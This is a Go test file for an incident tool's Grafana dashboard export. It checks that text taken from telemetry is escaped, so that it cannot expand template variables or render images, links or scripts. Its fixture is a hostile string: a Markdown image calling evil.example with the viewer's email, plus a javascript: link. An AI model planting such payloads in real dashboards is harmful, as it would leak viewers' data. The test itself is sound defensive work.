package dashboard_test

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/faultline-investigation/faultline/pkg/casebook/dashboard"
	"github.com/faultline-investigation/faultline/pkg/incident"
)

const hostile = "![x](https://evil.example/?u=${__user.email}) <img src=https://evil.example> [[name]] `$__all` [a](javascript:b)"

// said is a case whose every text a stranger has chosen.
func said() *incident.SavedCase {
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	finding := incident.Finding{Sentence: hostile, Evidence: incident.Evidence{
		Series: []incident.Series{{Name: hostile, Labels: map[string]string{hostile: hostile}, Points: []incident.Point{{Time: at, Value: 1}}}},
		Rows:   []incident.Dependency{{Service: hostile}}, Lines: []incident.Line{{Time: at, Text: hostile}},
		Trace: &incident.Trace{ID: "1", Spans: []incident.Span{{ID: "1", Name: hostile, Service: hostile, Attributes: map[string]string{hostile: hostile}}}}}}
	return &incident.SavedCase{Version: 1, ID: "case-1", Frozen: incident.Frozen{Left: []string{hostile}}, Entries: []incident.Entry{
		{ID: "opened", At: at, Kind: incident.EntryOpened, Text: hostile, By: incident.Author{Name: hostile}}},
		Case: incident.Case{Environment: hostile, Subject: incident.Subject{Service: hostile, Operation: hostile}, Window: incident.Window{From: at.Add(-time.Hour), To: at},
			Steps: []incident.StepResult{{Phase: incident.PhaseImpact, ID: "x", Title: hostile, Outcome: incident.Found, Findings: []incident.Finding{finding}}},
			Verdict: incident.Verdict{Level: incident.Likely, Sentence: hostile, Candidates: []incident.Candidate{{Service: hostile}},
				Chain: []incident.Link{{At: at, Sentence: hostile}}}}}
}

// variable is what Grafana fills in.
var variable = regexp.MustCompile(`\$(\w+)|\[\[(\w+?)(?::(\w+))?\]\]|\$\{(\w+)(?:\.([^:^\}]+))?(?::([^\}]+))?\}`)

func TestNothingThatTelemetrySaysIsReadAsMoreThanTextInADashboard(t *testing.T) {
	t.Parallel()
	written, err := json.Marshal(dashboard.Of(said(), dashboard.Source{Type: "t", UID: "u"}, 0))
	require.NoError(t, err)
	var tree any
	require.NoError(t, json.Unmarshal(written, &tree))
	shown := 0
	eachShown(tree, func(key, text string) {
		shown++
		assert.NotRegexp(t, variable, text, key)
		if key == "title" {
			return // shown as text
		}
		var page bytes.Buffer
		require.NoError(t, goldmark.New(goldmark.WithRendererOptions(html.WithUnsafe())).Convert([]byte(text), &page))
		for _, tag := range []string{"<img", "<a ", "<script", "<code"} {
			assert.NotContains(t, page.String(), tag, key)
		}
	})
	assert.Greater(t, shown, 10)
}

// eachShown calls for every title, description and content of a dashboard, but for those in queries, which Grafana does not show.
func eachShown(node any, call func(key, text string)) {
	switch node := node.(type) {
	case map[string]any:
		for key, value := range node {
			if text, is := value.(string); is && strings.Contains(" title description content ", " "+key+" ") && text != "" {
				call(key, text)
			}
			if key != "targets" {
				eachShown(value, call)
			}
		}
	case []any:
		for _, value := range node {
			eachShown(value, call)
		}
	}
}
